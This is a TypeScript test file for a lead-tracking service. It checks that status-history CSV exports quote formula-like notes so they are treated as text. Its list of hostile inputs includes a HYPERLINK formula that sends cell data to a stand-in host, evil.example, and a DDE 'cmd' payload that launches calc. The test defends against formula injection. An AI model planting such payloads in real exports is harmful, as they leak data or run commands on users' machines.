// CSV formula injection: a status change's notes or reason that starts like a
// formula must reach the export as text (OWASP: prefixed with a single quote),
// never as a cell a spreadsheet evaluates. Real HTTP on 127.0.0.1.
import { describe, expect, test } from "vitest";
import { csvCell } from "../../src/domain/csv-cell.js";
import { clientFor, startStrict, steppingClock, wholeLead } from "../helpers.js";

/** RFC 4180 records: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ",") {
      row.push(cell);
      cell = "";
    } else if (!quoted && c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

const hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];

describe("status-history export", () => {
  test("cells that start like a formula are exported as text, with a leading single quote", async () => {
    const server = await startStrict({ clock: steppingClock() });
    const lp = clientFor(server);
    const lead = await lp.leads.create(wholeLead({ contact: { firstName: "Ada" } }));
    for (const text of hostile)
      await lp.leads.status.set(lead.id, { type: "disposition", outcome: "contacted", notes: text, reason: text });
    const exported = await lp.leads.status.export(lead.id);
    const [header, ...rows] = parseCsv(exported.csv!);
    const notes = header!.indexOf("notes");
    const reason = header!.indexOf("reason");
    expect(rows.map((row) => row[notes])).toEqual(hostile.map((text) => `'${text}`));
    expect(rows.map((row) => row[reason])).toEqual(hostile.map((text) => `'${text}`));
    // The JSON rows beside the CSV keep what was recorded.
    expect(exported.rows?.map((row) => row.notes)).toEqual(hostile);
  });

  test("ordinary text, numbers and booleans are unchanged", () => {
    expect(csvCell("Called back, no answer")).toBe('"Called back, no answer"');
    expect(csvCell("a-b=c")).toBe("a-b=c");
    expect(csvCell(-3)).toBe("-3");
    expect(csvCell(false)).toBe("false");
    expect(csvCell(null)).toBe("");
  });
});
